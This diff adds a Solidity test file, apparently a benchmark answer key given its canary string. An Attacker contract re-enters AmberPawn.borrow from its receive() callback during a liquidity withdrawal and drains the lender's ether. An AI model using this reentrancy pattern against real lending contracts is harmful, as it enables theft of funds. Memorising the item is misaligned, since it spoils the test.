@@ -1,0 +1,156 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.24;
+
+import "./AmberPawn.sol";
+
+// assay-canary-36722e81-1661-40fb-a10c-75cbadb60ddf
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function prank(address who) external;
+}
+
+contract Grain is IGrain {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external {
+        allowance[msg.sender][spender] = amount;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+/// Borrows while its own shares are being paid out.
+contract Attacker {
+    AmberBasin internal basin;
+    AmberPawn internal pawn;
+    bool internal scooping;
+
+    constructor(AmberPawn pawn_, Grain grain) {
+        (pawn, basin) = (pawn_, pawn_.basin());
+        grain.approve(address(basin), type(uint256).max);
+        basin.allow(address(pawn_), type(uint256).max);
+    }
+
+    receive() external payable {
+        if (!scooping) return;
+        scooping = false;
+        uint256 limit = pawn.limitOf(address(this));
+        uint256 most = address(pawn).balance;
+        pawn.borrow(limit < most ? limit : most);
+    }
+
+    function run() external {
+        basin.pour{value: 501 ether}(501e18);
+        pawn.pledge(1 ether);
+        scooping = true;
+        basin.scoop(500 ether);
+    }
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    address internal constant INGA = address(0x16A);
+
+    Grain internal grain;
+    AmberBasin internal basin;
+    AmberPawn internal pawn;
+    Attacker internal cormorant;
+
+    receive() external payable {}
+
+    function setUp() public {
+        grain = new Grain();
+        basin = new AmberBasin(grain);
+        vm.deal(address(this), 8 ether);
+        pawn = new AmberPawn{value: 8 ether}(basin, 1 ether);
+        vm.deal(INGA, 10 ether);
+        grain.mint(INGA, 10e18);
+        vm.prank(INGA);
+        grain.approve(address(basin), type(uint256).max);
+        vm.prank(INGA);
+        basin.pour{value: 5 ether}(5e18);
+        cormorant = new Attacker(pawn, grain);
+        vm.deal(address(cormorant), 501 ether);
+        grain.mint(address(cormorant), 501e18);
+    }
+
+    function test_Regular() public {
+        vm.prank(INGA);
+        basin.allow(address(pawn), 5 ether);
+        vm.prank(INGA);
+        pawn.pledge(2 ether);
+        require(pawn.limitOf(INGA) == 2 ether, "half of four");
+        vm.prank(INGA);
+        require(!_try(address(pawn), abi.encodeCall(pawn.borrow, (2 ether + 1))), "above half");
+        vm.prank(INGA);
+        pawn.borrow(1.5 ether);
+        require(INGA.balance == 6.5 ether, "lent");
+        vm.prank(INGA);
+        require(!_try(address(pawn), abi.encodeCall(pawn.release, (1 ether))), "needed");
+
+        vm.prank(INGA);
+        uint256 out = basin.grainForEther{value: 1 ether}(0.8e18);
+        require(out > 0.8e18 && basin.grainHeld() == 5e18 - out, "swapped");
+        require(pawn.limitOf(INGA) >= 2 ether && pawn.limitOf(INGA) < 2.01 ether, "a trade does not lift the limit");
+        vm.prank(INGA);
+        require(!_try(address(basin), abi.encodeCall(basin.etherForGrain, (1e18, 3 ether))), "least");
+        vm.prank(INGA);
+        require(basin.etherForGrain(out, 0.9 ether) < 1 ether, "swapped back");
+
+        vm.prank(INGA);
+        pawn.repay{value: 1.5 ether}();
+        vm.prank(INGA);
+        pawn.release(2 ether);
+        vm.prank(INGA);
+        (uint256 e, uint256 g) = basin.scoop(5 ether);
+        require(e > 5 ether && g >= 5e18 && basin.shares() == 0, "scooped with the fees");
+        pawn.takeOut(8 ether);
+        require(address(this).balance == 8 ether, "house money");
+    }
+
+    function _try(address to, bytes memory data) private returns (bool ok) {
+        (ok, ) = to.call(data);
+    }
+
+    /// Ether of the house, with the open loan at what is owed or at what its pledge is worth, whichever is less.
+    function houseHas() public view returns (uint256) {
+        uint256 loan = pawn.owed(address(cormorant));
+        uint256 worth = 2 * pawn.limitOf(address(cormorant));
+        return address(pawn).balance + (loan < worth ? loan : worth);
+    }
+
+    function exploit() public {
+        cormorant.run();
+    }
+
+    function test_Exploit() public {
+        require(houseHas() == 8 ether, "house");
+        exploit();
+        require(address(pawn).balance == 0 && houseHas() < 2.1 ether, "loan is covered");
+    }
+
+    function target() public view returns (address) {
+        return address(pawn);
+    }
+
+    function attacker() public view returns (address) {
+        return address(cormorant);
+    }
+}
